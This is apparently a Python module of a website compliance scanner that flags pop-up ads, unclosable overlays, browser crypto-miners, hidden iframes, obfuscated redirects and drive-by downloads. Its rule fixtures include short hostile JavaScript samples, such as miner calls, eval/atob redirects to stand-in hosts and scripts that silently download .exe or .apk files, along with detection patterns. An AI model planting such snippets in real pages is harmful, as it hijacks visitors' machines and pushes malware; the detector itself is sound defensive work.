"""harassing_ads (Art. 15(8)) and malicious_code (Art. 15(11)) from scripts, iframes and browser events."""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import unquote, urljoin

from analyzers.lexicons import lexicon
from analyzers.model import BrowserEvent, Iframe, Location, Overlay, Page, Script
from analyzers.rules.base import HOME, Hit, Rule, home, page, site
from analyzers.scripts import auto_positions, source
from analyzers.urls import host, host_matches, same_site


def _short(s: str, n: int = 120) -> str:
    s = " ".join(s.split())
    return s if len(s) <= n else s[:n] + "…"


# ---- harassing ads ---------------------------------------------------------------------------------
def check_self_opening(p: Page, registry: Any, opts: dict[str, Any]) -> Iterator[Hit]:
    opened = [ev for ev in p.events if ev.kind in ("popup", "window_open") and not ev.user_initiated]
    if opened:  # one finding per page, however many windows (the count is in the excerpt)
        first = opened[0].detail or opened[0].kind
        total = sum(ev.count for ev in opened)
        more = f"（共 {total} 次）" if total > 1 else ""
        yield Hit(match=first, location=Location(kind="event", selector=first), confidence=0.9,
                  excerpt=f"页面未经点击自行打开窗口：{first}{more}")
    for ev in p.events:
        if ev.kind == "dialog" and not ev.user_initiated and ev.detail:
            yield Hit(match=ev.detail, location=Location(kind="event", selector="dialog"), confidence=0.6,
                      excerpt=f"页面加载时自行弹出对话框：{ev.detail}")


_OPEN = re.compile(r"window\.open\s*\(")
_CLICK = re.compile(r"click|mousedown|touchstart|onsubmit|keydown")


def check_popup_script(p: Page, registry: Any, opts: dict[str, Any]) -> Iterator[Hit]:
    # A rendered page that opened a window is ADS-SELF-OPENING-WINDOW's; one that did not may still
    # open it from a timer later than the browser waited (setInterval(…, 20000)), or on a condition.
    if p.rendered and any(ev.kind in ("popup", "window_open") and not ev.user_initiated for ev in p.events):
        return
    for sc in p.scripts:
        code = sc.inline
        if not code or "window.open" not in code:
            continue
        auto = auto_positions(code, _OPEN)
        if auto:
            yield Hit(match="window.open", location=Location(kind="script", selector=sc.src or "inline"),
                      confidence=0.6, excerpt=_short(code[max(0, auto[0].start() - 60):auto[0].start() + 80]))
            return  # one finding per page


_SHOWN = re.compile(r"""\.style\.display\s*=\s*['"](?:block|flex|grid|inline-block|table)|\.(?:show|fadeIn|slideDown)\s*\("""
                    r"""|classList\.(?:add|toggle)\(\s*['"](?:show|open|active|visible|in)['"]""")
_HIDDEN_BY = re.compile(r"""\.style\.display\s*=\s*['"]none|\.remove\(\s*\)|\.(?:hide|fadeOut|slideUp)\s*\("""
                        r"""|classList\.remove\(""")


_ELEMENT_REF = re.compile(r"""getElementById\(\s*['"]([\w-]+)['"]\s*\)|querySelector\(\s*['"]#([\w-]+)['"]\s*\)"""
                          r"""|\$\(\s*['"]#([\w-]+)['"]\s*\)""")


def _refers(code: str, pos: int, element_id: str) -> bool:
    """The element the operation at ``pos`` acts on is the last one the code named before it."""
    refs = list(_ELEMENT_REF.finditer(code, max(0, pos - 160), pos))
    return bool(refs) and next(g for g in refs[-1].groups() if g) == element_id


def _shown_by_itself(o: Overlay, code: str) -> bool:
    if o.element_id.startswith("script-built:"):
        return True  # extraction.overlays.built_layers: built by a function a timer calls
    if o.defeat == "recurs":
        return True  # extraction.overlays: a timer shows it again (by its id or a variable holding it) after closing
    if not o.defeat and any(_refers(code, m.start(), o.element_id) for m in _HIDDEN_BY.finditer(code)):
        return False  # the page's own script closes it somewhere: a close control it wires up
    return any(_refers(code, m.start(), o.element_id) for m in auto_positions(code, _SHOWN))


def check_unclosable_overlay(p: Page, registry: Any, opts: dict[str, Any]) -> Iterator[Hit]:
    if not p.overlays:
        return
    code = "\n".join(sc.inline for sc in p.scripts if sc.inline)
    for o in p.overlays:
        if o.closable or not _shown_by_itself(o, code):
            continue
        if o.defeat:
            how = "的“×”不关闭浮层而是跳转" if o.defeat == "fake_close" else "关闭后又被定时器重新弹出"
            yield Hit(match=o.text[:60], location=Location(kind="script", selector=o.path or f"#{o.element_id}"),
                      confidence=0.75, excerpt=f"页面脚本自行弹出的浮层（#{o.element_id}）{how}：{_short(o.text, 80)}")
            continue
        yield Hit(match=o.text[:60], location=Location(kind="script", selector=o.path or f"#{o.element_id}"),
                  confidence=0.75, excerpt=f"页面脚本自行弹出的浮层（#{o.element_id}）没有关闭按钮：{_short(o.text, 80)}")


# ---- malicious code --------------------------------------------------------------------------------
# a miner by the shape of its API or its host, whatever it is called: CoinHive-style
# new X.Anonymous('site-key', {throttle: …}), and script hosts named for a mining pool
_MINER_API = re.compile(r"new\s+[\w$.]+\.(?:Anonymous|User|Token)\s*\(\s*['\"][\w-]{6,}['\"]\s*,\s*\{[^}]{0,200}?"
                        r"\b(?:throttle|threads|autoThreads|forceASMJS)\b", re.I)
_MINER_HOST = re.compile(r"^[a-z]+://[^/]*(?:webminer|cryptominer|(?:coin|xmr|monero)[-.]?(?:pool|miner?))", re.I)


def _miner_shape(sc: Script) -> str:
    m = _MINER_API.search(sc.inline[:200_000]) if sc.inline else None
    if m:
        return m.group(0)[:60]
    return host(sc.src) if sc.src and _MINER_HOST.search(sc.src) else ""


_HEX_ESC = re.compile(r"\\x([0-9a-fA-F]{2})|\\u([0-9a-fA-F]{4})")
_CHARCODES = re.compile(r"fromCharCode\s*\(\s*((?:\d{2,5}\s*,\s*){3,2000}\d{2,5})\s*\)")
_B64_LITERAL = re.compile(r"['\"]([A-Za-z0-9+/]{16,4000}={0,2})['\"]")
_POOL_URL = re.compile(r"wss?://[^'\"\s]*(?:xmr|monero|coinhive|minexmr|nanopool|supportxmr|pool-|\.pool\.|mining)", re.I)


_ESCAPED_LITERAL = re.compile(r"['\"]((?:\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|[^'\"\\\n]){0,2000})['\"]")


def hidden_strings(code: str) -> list[str]:
    """What ``code`` hides in hex-escaped literals, fromCharCode lists and base64 literals, decoded (pure,
    bounded; the script is read, never run)."""
    code = code[:200_000]
    out: list[str] = []
    if "\\x" in code or "\\u" in code:
        for m in list(_ESCAPED_LITERAL.finditer(code))[:500]:
            if "\\" in m.group(1):
                out.append(_HEX_ESC.sub(lambda e: chr(int(e.group(1) or e.group(2), 16)), m.group(1)))
    for m in list(_CHARCODES.finditer(code))[:50]:
        out.append("".join(chr(int(n)) for n in m.group(1).split(",") if int(n) < 0x110000))
    for m in list(_B64_LITERAL.finditer(code))[:200]:
        try:
            text = base64.b64decode(m.group(1), validate=True).decode("ascii")
        except (ValueError, UnicodeDecodeError):
            continue
        if text.isprintable():
            out.append(text)
    return out


def deobfuscated(code: str) -> str:
    """``code`` and, after it, what it hides (:func:`hidden_strings`)."""
    return "\n".join([code[:200_000], *hidden_strings(code)])


def check_miner(p: Page, registry: Any, opts: dict[str, Any]) -> Iterator[Hit]:
    sigs = [e.raw.lower() for e in lexicon("miner_signatures")]
    for sc in p.scripts:
        code = source(sc)
        plain = deobfuscated(code) if code and sc.fetched else code[:200_000]
        text = (sc.src + "\n" + plain).lower()
        pool = _POOL_URL.search(text) if "ws" in text else None
        sig = next((s for s in sigs if s in text), None) or _miner_shape(sc) or (pool.group(0) if pool else None)
        if sig:
            yield Hit(match=sig, location=Location(kind="script", selector=sc.src or "inline"), confidence=0.95,
                      excerpt=_short(sc.src or sc.inline))


def _hidden(f: Iframe) -> bool:
    return (not f.visible) or (f.width is not None and f.width <= 2) or (f.height is not None and f.height <= 2)


def check_hidden_iframe(p: Page, registry: Any, opts: dict[str, Any]) -> Iterator[Hit]:
    benign = [e.raw for e in lexicon("benign_hidden_frames")]
    for f in p.iframes:
        h = host(f.src)
        if not h or not _hidden(f) or same_site(f.src, p.url) or any(host_matches(h, b) for b in benign):
            continue
        yield Hit(match=h, location=Location(kind="iframe", selector=f.path or f.src), confidence=0.8,
                  excerpt=f.src, detail=f"（隐藏框架指向外部主机 {h}）")


_OBFUSCATION = re.compile(r"eval\s*\(\s*function\s*\(\s*p\s*,\s*a\s*,\s*c\s*,\s*k\s*,\s*e|unescape\s*\(|atob\s*\("
                          r"|String\.fromCharCode|(?:\\x[0-9a-fA-F]{2}){8}|(?:%[0-9a-fA-F]{2}){12}")
_SINK = re.compile(r"(?:window\.|top\.|document\.|self\.)?location(?:\.href|\.replace)?\s*[=(]|document\.write\s*\("
                   r"|<iframe|\.src\s*=")
_EVAL = re.compile(r"\beval\s*\(|document\.write\s*\(|new\s+Function\s*\(")


# String literals the script decodes itself (atob('…'), unescape('%…')): what they hide is read too (bounded).
_ATOB_ARG = re.compile(r"atob\s*\(\s*['\"]([A-Za-z0-9+/=\s]{8,100000})['\"]\s*\)")
_UNESCAPE_ARG = re.compile(r"unescape\s*\(\s*['\"]((?:%[0-9a-fA-F]{2}|[^'\"]){8,100000})['\"]\s*\)")


def decoded_literals(code: str, limit: int = 20) -> str:
    """The plain text of the base64 and %-escaped literals ``code`` decodes itself, joined (pure, bounded)."""

    out: list[str] = []
    for m in list(_ATOB_ARG.finditer(code))[:limit]:
        try:
            out.append(base64.b64decode("".join(m.group(1).split()), validate=False).decode("utf-8", "replace"))
        except (ValueError, TypeError):
            continue
    for m in list(_UNESCAPE_ARG.finditer(code))[:limit]:
        out.append(unquote(m.group(1)))
    return "\n".join(out)


# a redirect assembled from hidden strings: window['location']['href']=atob(…) with an absolute URL decoded
_HIDDEN_URL = re.compile(r"https?://[^'\"\s]{4,}")


_SINK_DECODED = re.compile(r"location(?:\.href)?\s*=\s*(?=atob|unescape|decodeURIComponent)"
                           r"|location\.(?:replace|assign)\s*\(\s*(?=atob|unescape|decodeURIComponent)")


def _decoded_target(code: str) -> str:
    """The absolute URL a navigation goes to when its target is a literal the script decodes in place; "" if none."""
    for m in _SINK_DECODED.finditer(code):
        url = _HIDDEN_URL.search(decoded_literals(code[m.end():m.end() + 2000], limit=1))
        if url:
            return url.group(0)
    return ""


def check_obfuscated_redirect(p: Page, registry: Any, opts: dict[str, Any]) -> Iterator[Hit]:
    for sc in p.scripts:
        code = source(sc)[:200_000]
        if not code:
            continue
        ob = _OBFUSCATION.search(code)
        if ob and _EVAL.search(code) and (_SINK.search(code) or _SINK.search(decoded_literals(code))):
            yield Hit(match=ob.group(0)[:40], location=Location(kind="script", selector=sc.src or "inline"),
                      confidence=0.8, excerpt=_short(code))
            continue
        sent = _decoded_target(code)  # location.href=atob('aHR0cDovL…'): the sink in plain sight, its target hidden
        if sent and not same_site(sent, p.url):
            yield Hit(match=sent[:40], location=Location(kind="script", selector=sc.src or "inline"),
                      confidence=0.8, excerpt=_short(code), detail=f"（隐藏的跳转地址 {sent[:80]}）")
            continue
        if ob and ("\\x" in code or "fromCharCode" in code or "atob" in code):
            hidden = "\n".join(hidden_strings(code))  # only what was hidden, not the code as written
            url = _HIDDEN_URL.search(hidden)
            if url and "location" in hidden and ("href" in hidden or "replace" in hidden) \
                    and not same_site(url.group(0), p.url):
                yield Hit(match=ob.group(0)[:40], location=Location(kind="script", selector=sc.src or "inline"),
                          confidence=0.75, excerpt=_short(code), detail=f"（隐藏的跳转地址 {url.group(0)[:80]}）")


_EXEC = re.compile(r"\.(?:exe|apk|msi|scr|bat|cmd|vbs|jar|dmg|pif|com)(?:$|[?#])", re.I)
_AUTO_DL = re.compile(r"(?:location(?:\.href)?\s*=|location\.replace\s*\(|http-equiv=['\"]?refresh)[^;\n]{0,200}?"
                      r"\.(?:exe|apk|msi|scr|bat|vbs|jar|dmg)\b", re.I)


# a script that builds a frame and points it at an executable elsewhere (createElement('iframe') … .src='…setup.exe'):
# the download starts without a click even where the browser never saw it begin (the host did not answer)
_FRAME_DL = re.compile(r"createElement\(\s*['\"]iframe['\"]\s*\)[\s\S]{0,400}?\.src\s*=\s*['\"]([^'\"]{1,300}?"
                       r"\.(?:exe|apk|msi|scr|bat|vbs|jar|dmg))['\"]", re.I)


# a script that makes a link to an executable and clicks it itself (a.href='…helper.apk'; a.click()) with no visitor's
# click: on a page that is not a download page the visitor asked for (下载中心, download.html) it is a drive-by
_ANCHOR_DL = re.compile(r"createElement\(\s*['\"]a['\"]\s*\)[\s\S]{0,300}?\.href\s*=\s*['\"]([^'\"]{1,300}?"
                        r"\.(?:exe|apk|msi|scr|bat|vbs|jar|dmg))['\"][\s\S]{0,300}?\.click\(\s*\)", re.I)
_DOWNLOAD_PAGE = re.compile(r"download|xiazai|下载|安装", re.I)


# a timer that points a hidden frame at an executable whose address it hides (….getElementById('dl').src=atob('…exe')):
# the address is decoded, never run
_SRC_SET = re.compile(r"\.src\s*=")
_EXE_URL = re.compile(r"^(?:https?:)?//[^\s'\"]{1,300}?\.(?:exe|apk|msi|scr|bat|vbs|jar|dmg)(?:$|[?#])", re.I)


def _hidden_frame_drive_by(p: Page, code: str) -> str:
    if ".src" not in code or not ("iframe" in code or any(not f.visible for f in p.iframes)):
        return ""
    if not auto_positions(code, _SRC_SET):
        return ""
    return next((u for u in hidden_strings(code) if _EXE_URL.search(u) and not same_site(u, p.url)), "")


def _anchor_drive_by(p: Page, code: str) -> re.Match[str] | None:
    if ".click(" not in code or "createElement" not in code:
        return None
    m = next(iter(auto_positions(code, _ANCHOR_DL)), None)
    if m is None or (same_site(urljoin(p.url, m.group(1)), p.url) and _DOWNLOAD_PAGE.search(f"{p.url} {p.title}")):
        return None
    return m


def check_drive_by(p: Page, registry: Any, opts: dict[str, Any]) -> Iterator[Hit]:
    started = False
    for ev in p.events:
        if ev.kind == "download" and not ev.user_initiated:
            started = True
            yield Hit(match=ev.detail or "download", location=Location(kind="event", selector=ev.detail),
                      confidence=0.95 if _EXEC.search(ev.detail) else 0.8, excerpt=f"页面未经点击开始下载：{ev.detail}")
    for sc in p.scripts if not started else ():
        m = _FRAME_DL.search(sc.inline or "")
        if m and not _CLICK.search(sc.inline or "") and not same_site(m.group(1), p.url):
            yield Hit(match=m.group(1)[-60:], location=Location(kind="script", selector=sc.src or "inline"),
                      confidence=0.8, excerpt=_short(sc.inline), detail="（脚本以隐藏框架下载可执行文件）")
            break
        hidden = _hidden_frame_drive_by(p, sc.inline or "") if not _CLICK.search(sc.inline or "") else ""
        if hidden:
            yield Hit(match=hidden[-60:], location=Location(kind="script", selector=sc.src or "inline"),
                      confidence=0.8, excerpt=_short(sc.inline), detail="（脚本以隐藏框架下载隐藏地址的可执行文件）")
            break
        a = _anchor_drive_by(p, sc.inline or "")
        if a is not None:
            yield Hit(match=a.group(1)[-60:], location=Location(kind="script", selector=sc.src or "inline"),
                      confidence=0.8, excerpt=_short(sc.inline), detail="（脚本自行点击下载可执行文件的链接）")
            break
    if not p.rendered:
        refresh = p.meta.get("refresh", "")
        for code, where in [(sc.inline, sc.src or "inline") for sc in p.scripts] + [(f"http-equiv=refresh {refresh}", "meta")]:
            m = _AUTO_DL.search(code or "") or _AUTO_DL.search(decoded_literals(code or ""))
            if m and not _CLICK.search(code):
                yield Hit(match=m.group(0)[-60:], location=Location(kind="script", selector=where), confidence=0.7,
                          excerpt=_short(code))


_LAW_MAL = ("刑法 第二百八十五条、第二百八十六条", "网络安全法 第二十七条")
_LAW_ADS = ("广告法 第四十三条、第四十四条", "互联网广告管理办法 第十条")

RULES: tuple[Rule, ...] = (
    Rule(id="ADS-SELF-OPENING-WINDOW", category="harassing_ads", article="15(8)", law=_LAW_ADS, severity="medium",
         explanation="页面未经用户操作自行弹出窗口或新页面", check=check_self_opening, scope="page",
         what="Windows or pop-ups the page opens by itself, seen by the browser while rendering.",
         why="第十五条第（八）项禁止以弹出式广告等形式强行发布骚扰网络广告；广告法第四十四条：弹出广告应当显著标明关闭标志，确保一键关闭。",
         bad=(site(home("欢迎", rendered=True, events=(BrowserEvent("popup", "http://ads.example.net/a.html"),)),
                   description="渲染时自行弹出广告窗口"),),
         good=(site(home("欢迎", rendered=True, events=(BrowserEvent("popup", HOME + "help.html", user_initiated=True),)),
                    description="用户点击后打开帮助窗口"),),
         references=_LAW_ADS),
    Rule(id="ADS-POPUP-SCRIPT", category="harassing_ads", article="15(8)", law=_LAW_ADS, severity="low",
         explanation="页面脚本在加载或定时器中自动调用 window.open 弹窗", check=check_popup_script, scope="page",
         what="Inline scripts that call window.open from a timer or on load, not on a click — on pages not rendered, "
              "and on rendered pages where the browser saw no window open (a timer later than the render waited).",
         why="第十五条第（八）项禁止强行发布弹出式骚扰广告。",
         bad=(site(home("欢迎", scripts=(Script(inline="setTimeout(function(){window.open('http://ads.example.net/')},3000)"),)),
                   description="加载3秒后自动弹窗"),
              site(home("欢迎", rendered=True, scripts=(Script(
                  inline="setInterval(function(){showMask(); window.open('order.html','_blank');}, 20000);"
                         "document.addEventListener('keydown', function(e){ e.preventDefault(); showMask(); });"),)),
                   description="渲染时浏览器没等到的20秒定时弹窗（同一脚本另有按键处理）"),
              site(home("欢迎", scripts=(Script(inline="function ad(){window.open('/promo.html','ad','width=400')}"
                                                       "window.onload=function(){ad()};"),)),
                   description="加载时调用的具名函数打开窗口")),
         good=(site(home("欢迎", scripts=(Script(inline="btn.addEventListener('click',()=>window.open('/help'))"),)),
                    description="点击按钮才打开"),
               site(home("欢迎", scripts=(Script(inline="setInterval(tick, 1000); function share(){window.open(u)}"
                                                        "btn.addEventListener('click', share);"),)),
                    description="计时器与点击分享无关")),
         references=_LAW_ADS),
    Rule(id="ADS-UNCLOSABLE-OVERLAY", category="harassing_ads", article="15(8)", law=_LAW_ADS, severity="medium",
         explanation="页面脚本在加载或定时器中自行弹出浮层广告，且浮层没有关闭按钮", check=check_unclosable_overlay,
         scope="page",
         what="A layer (mask, pop-up box, floating ad) that the page's script shows by itself — on load or on a "
              "timer — and that holds no close control (×, 关闭, a button or handler that hides it); also an "
              "advertising layer a timer-called function builds itself (createElement … appendChild), in an inline "
              "script or one of the shop's own script files.",
         why="第十五条第（八）项禁止以弹出式广告等形式强行发布骚扰网络广告；广告法第四十四条：在互联网页面以弹出等形式发布的广告，"
             "应当显著标明关闭标志，确保一键关闭。",
         bad=(site(home("欢迎", scripts=(Script(inline="function showAd(){document.getElementById('mask').style.display='block';}"
                                                       "setInterval(showAd, 15000);"),),
                        overlays=(Overlay("mask", "恭喜您被抽中！添加客服微信立领300元券（领取后窗口自动关闭）"),)),
                   description="每15秒弹出一次抽奖浮层，浮层里没有关闭按钮"),),
         good=(site(home("欢迎", scripts=(Script(inline="setTimeout(function(){document.getElementById('pop').style.display="
                                                        "'block'},2000)"),),
                         overlays=(Overlay("pop", "新人领券 × ", closable=True),)),
                    description="弹出的领券浮层有关闭按钮"),
               site(home("欢迎", scripts=(Script(inline="btn.addEventListener('click',function(){"
                                                        "document.getElementById('size').style.display='block'})"),),
                         overlays=(Overlay("size", "尺码对照表：S 160/84A"),)),
                    description="用户点击“尺码表”才显示的说明层")),
         references=("广告法 第四十四条",)),
    Rule(id="MAL-CRYPTO-MINER", category="malicious_code", article="15(11)", law=_LAW_MAL, severity="critical",
         explanation="页面加载浏览器挖矿脚本", check=check_miner, scope="page",
         what="Known browser crypto-miner scripts (CoinHive, CryptoLoot, CoinIMP, …).",
         why="第十五条第（十一）项禁止发送蓄意毁坏、恶意干扰或侵占系统数据的电脑程序；挖矿脚本擅自占用访客计算资源。",
         bad=(site(home("欢迎", scripts=(Script(src="https://coinhive.com/lib/coinhive.min.js"),)), description="加载 coinhive"),
              site(home("欢迎", scripts=(Script(inline='var _m = new WebMiner.Anonymous("4AqH7xJyhQ", {throttle: 0.2});'
                                                       "_m.start();"),)),
                   description="不在名单上的挖矿脚本，按 CoinHive 式接口识别"),
              site(home("欢迎", scripts=(Script(src="http://coin-pool.example.pw/lib/m.min.js"),)),
                   description="从矿池主机加载脚本")),
         good=(site(home("欢迎", scripts=(Script(src=HOME + "js/jquery.min.js"),)), description="普通脚本"),
               site(home("欢迎", scripts=(Script(inline='var u = new Tracker.User("abc12345", {page: "home"});'),
                                          Script(src="https://cdn.example.com/coin-flip-game.js"))),
                    description="统计脚本的 User 对象和名字带 coin 的普通脚本")),
         references=_LAW_MAL),
    Rule(id="MAL-HIDDEN-IFRAME", category="malicious_code", article="15(11)", law=_LAW_MAL, severity="high",
         explanation="页面含指向外部主机的隐藏框架", check=check_hidden_iframe, scope="page",
         what="Invisible (hidden or 1×1) iframes that load another host — a classic malware and click-fraud carrier.",
         why="第十五条第（十一）项；隐藏框架常用于挂马、流量劫持与恶意跳转。",
         bad=(site(home("欢迎", iframes=(Iframe("http://evil.example.ru/x.html", 1, 1, False),)), description="1×1 隐藏框架"),),
         good=(site(home("欢迎", iframes=(Iframe("https://www.googletagmanager.com/ns.html?id=GTM-X", 0, 0, False),
                                           Iframe("https://player.example.com/v/1", 640, 360, True))),
                    description="标签管理器的 noscript 框架与可见的视频框架"),),
         references=_LAW_MAL),
    Rule(id="MAL-OBFUSCATED-REDIRECT", category="malicious_code", article="15(11)", law=_LAW_MAL, severity="high",
         explanation="页面含混淆的 eval/document.write 跳转或注入代码", check=check_obfuscated_redirect, scope="page",
         what="Obfuscated code (packer, unescape, atob, fromCharCode, hex escapes) that evaluates or writes a redirect or iframe.",
         why="第十五条第（十一）项禁止恶意干扰、秘密截取系统数据的程序；混淆跳转是挂马与劫持的常见形式。",
         bad=(site(home("欢迎", scripts=(Script(inline="eval(unescape('%77%69%6e%64%6f%77%2e%6c%6f%63%61%74%69%6f%6e%3d%27'));"
                                                       "window.location='http://x.example.ru'"),)),
                   description="unescape 后 eval 跳转"),
              site(home("欢迎", scripts=(Script(inline="eval(atob('c2V0VGltZW91dChmdW5jdGlvbigpe2xvY2F0aW9uLmhyZWY9J2h0dHA6Ly94LmV4YW1wbGUucnUvJ30sNTAwKQ=='))"),)),
                   description="跳转只在 atob 解码后的代码里"),
              site(home("欢迎", scripts=(Script(inline="if(document.referrer.indexOf('baidu')>-1){location.href=atob('aHR0cDovL2dvLmV4YW1wbGUucnUvcj9jPTE=');}"),)),
                   description="跳转写在明处，目标地址 atob 解码后才见（外站）"),),
         good=(site(home("欢迎", scripts=(Script(inline="var d=atob(data);render(d);"),)), description="解码数据但不跳转"),
               site(home("欢迎", scripts=(Script(inline="eval(atob('cmVuZGVyKGl0ZW1zKQ=='))"),)),
                    description="解码后的代码不跳转"),
               site(home("欢迎", scripts=(Script(inline="location.href=atob('L3Byb2R1Y3RzL2NyZWFtLmh0bWw=');"),)),
                    description="解码后是本站的页面"),),
         references=_LAW_MAL),
    Rule(id="MAL-DRIVE-BY-DOWNLOAD", category="malicious_code", article="15(11)", law=_LAW_MAL, severity="critical",
         explanation="页面未经点击自动开始下载文件", check=check_drive_by, scope="page",
         what="Downloads started without a click (seen by the browser, or a script/meta refresh pointing at an executable).",
         why="第十五条第（十一）项；未经同意下载可执行文件是恶意程序传播方式。",
         bad=(site(home("欢迎", rendered=True, events=(BrowserEvent("download", HOME + "setup.exe"),)),
                   description="渲染时自动下载 setup.exe"),
              site(home("正在为您下载加速器", rendered=True, scripts=(Script(inline=(
                  "setTimeout(function(){var f=document.createElement('iframe');f.style.display='none';"
                  "f.src='https://cdn-tools.example/dl/booster_setup.exe';document.body.appendChild(f);},1000);")),)),
                   description="脚本建隐藏框架下载外站的 exe（下载未被浏览器看到）"),
              site(page(HOME + "articles.html", "养生文章", rendered=True, scripts=(Script(inline=(
                  "setTimeout(function(){var a=document.createElement('a');a.href='download/helper.apk';"
                  "a.download='helper.apk';document.body.appendChild(a);a.click();},1500);")),)),
                   description="文章页脚本自行点击本站 apk 下载链接"),
              site(home("下载助手", rendered=True, iframes=(Iframe("about:blank", 0, 0, visible=False),), scripts=(Script(inline=(
                  "setTimeout(function(){var u=atob('aHR0cDovL2RsLmV4YW1wbGUudG9wL0hlbHBlci5leGU=');"
                  "document.getElementById('dl').src=u;},3000);")),)),
                   description="定时把隐藏框架指向 atob 解码出的外站 exe"),),
         good=(site(home("欢迎", rendered=True, events=(BrowserEvent("download", HOME + "manual.pdf", user_initiated=True),)),
                    description="用户点击下载说明书"),
               site(home("下载客户端", rendered=True, scripts=(Script(inline=(
                   "btn.addEventListener('click',function(){var f=document.createElement('iframe');"
                   "f.src='https://cdn-tools.example/dl/client_setup.exe';document.body.appendChild(f);});")),)),
                    description="用户点击按钮后才下载"),
               site(page(HOME + "download.html", "下载客户端", rendered=True, scripts=(Script(inline=(
                   "setTimeout(function(){var a=document.createElement('a');a.href='/files/client_setup.exe';"
                   "document.body.appendChild(a);a.click();},2000);")),)),
                    description="访客打开的下载页自动开始本站客户端下载"),),
         references=_LAW_MAL),
)
